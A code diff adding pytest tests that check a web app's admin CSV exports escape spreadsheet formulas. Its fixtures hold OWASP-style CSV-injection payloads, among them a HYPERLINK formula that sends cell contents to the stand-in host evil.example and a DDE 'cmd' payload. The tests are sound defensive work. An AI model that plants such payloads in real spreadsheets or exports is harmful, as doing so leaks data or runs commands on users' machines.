@@ -12,6 +12,7 @@ import pytest
 from harness.web import filter_arg
 from tests.admin.helpers import page_text
 from tests.factories import make_business, make_number
+from webapp.admin.base import SecureModelView
 from webapp.extensions import db
 from webapp.models import Activity, ActivityKind, ActivityStatus, BusinessStatus, Role, WebhookStatus
 from webapp.models.base import utcnow
@@ -161,6 +162,41 @@ def test_csv_export_holds_plain_values(client, auth, app):
     assert rows[1] == ["Acme", "active", "", "", "+14155551234"]
     numbers = list(csv.reader(io.StringIO(page_text(client.get("/admin/phonenumber/export/csv/")))))
     assert numbers[1][:2] == ["+14155551234", "Acme"] and "unknown" in numbers[1]
+
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?leak="&A2&B2,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "-1\t+1",
+)
+"""Cell text a spreadsheet would run as a formula (OWASP's CSV-injection examples)."""
+
+
+def test_csv_exports_carry_no_spreadsheet_formula(client, auth, app):
+    for formula in FORMULAS:
+        make_business(formula)
+    make_business("Plain = Bakery", contact_email="=cmd@example.com")
+    make_number(
+        make_business("Numbered"), e164="+14155551234", webhook_error='=HYPERLINK("http://evil.example/")'
+    )
+    auth.login(Role.VIEWER)
+
+    rows = list(csv.reader(io.StringIO(page_text(client.get("/admin/business/export/csv/")))))
+    by_name = {row[0]: row for row in rows[1:]}
+    assert {"'" + formula for formula in FORMULAS} <= set(by_name)
+    assert by_name["Plain = Bakery"][:3] == ["Plain = Bakery", "active", "'=cmd@example.com"]
+    numbers = list(csv.reader(io.StringIO(page_text(client.get("/admin/phonenumber/export/csv/")))))
+    assert numbers[1][0] == "+14155551234"  # a signed number alone is no formula: E.164 stays as it is
+    assert numbers[1][-1] == '\'=HYPERLINK("http://evil.example/")'
+
+
+def test_every_export_goes_through_the_one_formula_guard(app):
+    exporting = [view for view in app.extensions["admin"][0]._views if getattr(view, "can_export", False)]
+    assert {view.endpoint for view in exporting} >= {"business", "phonenumber", "access_log"}
+    for view in exporting:
+        assert type(view).get_export_value is SecureModelView.get_export_value, view.endpoint
 
 
 def test_csv_export_stops_at_export_max_rows(client, auth, app, monkeypatch):
